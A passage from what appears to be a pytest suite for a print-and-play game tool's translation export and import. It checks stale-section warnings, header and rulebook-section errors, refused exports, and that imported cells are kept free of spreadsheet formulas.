        csv.writer(f, delimiter="\t", lineterminator="\n").writerows(read_csv(decks / "crystals.csv"))
    (decks / "crystals.csv").unlink()
    deck = decks / "crystals.yaml"
    deck.write_text(deck.read_text(encoding="utf-8").replace("cards_from: crystals.csv", "cards_from: crystals.tsv"), encoding="utf-8")
    hostile_sheet(translated, tmp_path / "de.csv")
    text = (tmp_path / "de.csv").read_text(encoding="utf-8").replace(SHEET, "data/gems/decks/crystals.tsv")
    (tmp_path / "de.csv").write_text(text, encoding="utf-8")
    result = run_pnp(tmp_path, "translate", "import", str(tmp_path / "de.csv"))
    assert result.exit_code == 0 and "data/gems/decks/crystals.tsv: 5 translations written" in result.output, result.output
    with (decks / "crystals.tsv").open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f, delimiter="\t"))
    assert not [v for row in rows for v in row if v[:1] and v[0] in FORMULA_STARTS]
    from pnp.data.sheet_rows import SheetSource
    from pnp.data.spreadsheet import read_cards

    cards = {card["id"]: card for card in read_cards(SheetSource(decks / "crystals.tsv", "crystals.tsv"))}  # as a build reads the deck
    for (card, name), german in HOSTILE.items():
        assert cards[card][f"{name}@de"] == german.removeprefix("'")


def test_a_rule_changed_between_export_and_import_is_stale_in_the_german_rulebook(translated, tmp_path):
    """The rulebook's 'playing' section is reworded after the sheet went out: the German section notes the digest of
    the English the translator saw, so validate warns at its heading and the next export marks its row stale."""
    shutil.copytree(translated / "data", tmp_path / "data")
    shutil.copytree(translated / "templates", tmp_path / "templates")
    rows = read_csv(translated / "output" / "gems" / "translate" / "gems-de.csv")
    book = [row for row in rows if row[0].startswith("data/gems/rulebook.md#")]
    for row, german in zip(book, ["---\nsubtitle: Spielregeln\n---", "# Überblick\n\nSammelt.", "# Material\n\nAlles.", "# Spielablauf\n\nSpielt."],
                           strict=True):
        row[3] = german
    seen = book[3][2]
    rules = tmp_path / "data/gems/rulebook.md"
    english = rules.read_text(encoding="utf-8")
    assert seen in english
    rules.write_text(english.replace(seen, seen + "\n\nThen pass the cave to your left."), encoding="utf-8")
    write_csv(tmp_path / "book.csv", [rows[0], *book])
    result = run_pnp(tmp_path, "translate", "import", str(tmp_path / "book.csv"))
    warned = [line for line in result.output.splitlines() if ": warning: the source text changed since" in line]
    lines = (tmp_path / "book.csv").read_text(encoding="utf-8").split("\n")
    line = next(i + 1 for i, x in enumerate(lines) if x.startswith("data/gems/rulebook.md#playing"))  # cells above span lines
    assert result.exit_code == 0 and len(warned) == 1 and warned[0].startswith(f"book.csv:{line}:3: "), result.output
    assert "it now reads '# Playing 1. Shuffle" in warned[0]  # its start on one line
    assert "{# src: " + letters(seen) + " #}" in (tmp_path / "data/gems/rulebook.de.md").read_text(encoding="utf-8")
    result = run_pnp(tmp_path, "validate", "gems", "--lang", "de", "--quick")
    warned = [line for line in result.output.splitlines() if "made from an older text" in line]
    assert len(warned) == 1 and warned[0].startswith("data/gems/rulebook.de.md:") and "section 'playing'" in warned[0], result.output
    assert run_pnp(tmp_path, "translate", "export", "gems", "--lang", "de", "--dpi", "30").exit_code == 0
    status = {row[0].partition("#")[2]: row[4] for row in read_csv(tmp_path / "output/gems/translate/gems-de.csv") if "rulebook.md#" in row[0]}
    assert status == {"opening": "", "overview": "", "components": "", "playing": "stale"}


@pytest.mark.parametrize(("header", "read"), [
    (["where", "en", "de", "status", "fits", "face", "n" * 40, "m" * 41], "'where', 'en', 'de', 'status', 'fits', 'face', '" + "n" * 40 + "', '" + "m" * 40 + "…'"),
    (["where", "en", "de", "status", "fits", "face", "n" * 40, "m" * 41, "a", "b"],
     "'where', 'en', 'de', 'status', 'fits', 'face', '" + "n" * 40 + "', '" + "m" * 40 + "…' and 2 more"),
])
def test_a_header_row_without_an_id_names_eight_headers_each_cut_at_forty_letters_and_counts_the_rest(translated, tmp_path, header, read):
    """A sheet may have thousands of columns and headers of any length: the one error names the first eight, each up to
    forty letters and marked where it was cut, then how many more."""
    write_csv(tmp_path / "odd.csv", [header, [f"{SHEET}#cards[ruby-1].name", "", "Ruby shard", "Rubinsplitter", "", "", ""]])
    result = run_pnp(translated, "translate", "import", str(tmp_path / "odd.csv"))
    errors = [line for line in result.output.splitlines() if ": error: " in line]
    assert result.exit_code == 1 and len(errors) == 1 and errors[0].startswith(f"{tmp_path / 'odd.csv'}:1:"), result.output
    assert errors[0].endswith(f"; it reads {read}"), errors[0]


def test_a_german_rulebook_whose_sections_are_not_the_englishs_is_refused_at_the_first_translated_row(translated, tmp_path):
    """rulebook.de.md is matched to rulebook.md section by section: with two sections where the English has four, the
    import cannot tell which translates which, says so at the first filled rulebook cell, and leaves the file as it was."""
    shutil.copytree(translated / "data", tmp_path / "data")
    german = tmp_path / "data/gems/rulebook.de.md"
    german.write_text("# Überblick\n\nSammelt.\n\n# Spielablauf\n\nSpielt.\n", encoding="utf-8")
    rows = read_csv(translated / "output" / "gems" / "translate" / "gems-de.csv")
    book = [row for row in rows if row[0].startswith("data/gems/rulebook.md#")]
    book[1][3], book[3][3] = "# Überblick\n\nSammelt Kristalle.", "# Spielablauf\n\nSpielt reihum."
    write_csv(tmp_path / "two.csv", [rows[0], book[1], book[3]])
    lines = (tmp_path / "two.csv").read_text(encoding="utf-8").split("\n")
    line = next(i + 1 for i, x in enumerate(lines) if x.startswith("data/gems/rulebook.md#overview"))
    result = run_pnp(tmp_path, "translate", "import", str(tmp_path / "two.csv"))
    errors = [line for line in result.output.splitlines() if ": error: " in line]
    assert result.exit_code == 1 and len(errors) == 1 and errors[0].startswith(f"two.csv:{line}:4: error: "), result.output
    assert "rulebook.de.md has 2 sections where rulebook.md has 4" in errors[0] and "give them the same headings" in errors[0], errors[0]
    assert german.read_text(encoding="utf-8") == "# Überblick\n\nSammelt.\n\n# Spielablauf\n\nSpielt.\n"


def test_an_export_of_all_languages_of_a_game_with_its_source_alone_is_refused_saying_where_to_add_one(project):
    """The tiny game names no `languages:`: `--lang all` has nothing to translate into, said in one line that says
    where to add a language, and no sheet written (never a silent success)."""
    result = run_pnp(project, "translate", "export", "tiny", "--lang", "all")
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    assert ("Invalid value for --lang: the game lists no language but its source (en): add one to `languages:` in its game.yaml"
            in result.output), result.output
    assert not (project / "output/tiny/translate").exists()


def test_an_export_into_the_games_source_language_is_refused_naming_the_languages_to_pick(tmp_path):
    """`--lang en` of a game written in English, with German among its `languages: [en, de]`: nothing to translate, said
    in one line that names German to pick instead, and no sheet written."""
    root = german_gems(tmp_path)
    result = run_pnp(root, "translate", "export", "gems", "--lang", "en")
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    assert "'en' is the game's source language: translate into another of its languages (de)" in result.output
    assert not (root / "output").exists()


def test_a_workbook_decks_sheet_name_is_no_text_to_translate(translated, tmp_path):
    """`sheet: Crystals` names the workbook's tab the cards are read from, as `cards_from:` names its file: neither prints,
    so the translator's sheet lists the cards' texts from that tab and never the tab's name."""
    root = copy_game(translated, tmp_path)
    book = workbook_deck(root)
    from openpyxl import load_workbook

    opened = load_workbook(book)
    opened.active.title = "Crystals"
    opened.save(book)
    deck = root / "data/gems/decks/crystals.yaml"
    deck.write_text(deck.read_text(encoding="utf-8").replace("cards_from: crystals.xlsx", "cards_from: crystals.xlsx\nsheet: Crystals"), encoding="utf-8")
    result = run_pnp(root, "translate", "export", "gems", "--lang", "de", "--dpi", "30")
    assert result.exit_code == 0, result.output
    ids = [row[0] for row in read_csv(root / "output/gems/translate/gems-de.csv")[1:]]
    assert "data/gems/decks/crystals.xlsx#cards[ruby-1].name" in ids, ids
    assert [i for i in ids if i.startswith("data/gems/decks/crystals.yaml#")] == ["data/gems/decks/crystals.yaml#name"], ids
